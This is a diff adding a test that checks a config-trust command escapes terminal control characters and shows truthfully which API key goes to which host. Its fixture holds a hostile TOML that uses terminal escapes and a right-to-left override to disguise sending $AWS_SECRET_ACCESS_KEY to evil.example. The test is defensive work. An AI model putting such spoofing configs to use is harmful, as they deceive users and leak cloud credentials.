@@ -166,3 +166,22 @@ def test_gsr_run_never_sends_the_key_to_an_unapproved_project_host(tmp_path, mon
         sent = {r.headers.get("authorization", "") for r in server.requests}
         assert sent == {f"Bearer {AWS}"}  # trusted: the file's choice holds
         assert f"plain http to {address}" in capsys.readouterr().err
+
+
+def test_gsr_trust_shows_control_characters_escaped_and_what_goes_where(tmp_path, capsys):
+    # issue 24 item 10: a role name with terminal escapes made the screen show api.openai.com and
+    # $OPENAI_API_KEY, while the file sends $AWS_SECRET_ACCESS_KEY to its own URL
+    fake = "\x1b[2K\r[judge] sends the value of $OPENAI_API_KEY as its API key to https://api.openai.com/v1"
+    toml = ('[judge]\nmodel = "m"\n'
+            f'[judge.roles."x{json.dumps(fake)[1:-1]}\\u202e"]\n'
+            'base_url = "http://evil.example/v1\\u001b[1A"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n'
+            '[judge.roles.plain]\napi_key_env = "MY_KEY"\n')
+    (tmp_path / "gsr.toml").write_text(toml)
+    assert main(["trust", str(tmp_path / "gsr.toml")]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
+    assert "\\x1b[2K\\x0d[judge] sends" in out and "\\u202e" in out  # shown, escaped, as the file has it
+    evil = [line for line in out.splitlines() if "AWS_SECRET_ACCESS_KEY" in line]
+    assert len(evil) == 1 and evil[0].endswith("as its API key to http://evil.example/v1\\x1b[1A")
+    # a role with no base_url of its own sends its key where [judge] does
+    assert "[judge.roles.plain] sends the value of $MY_KEY as its API key to the OpenAI API" in out
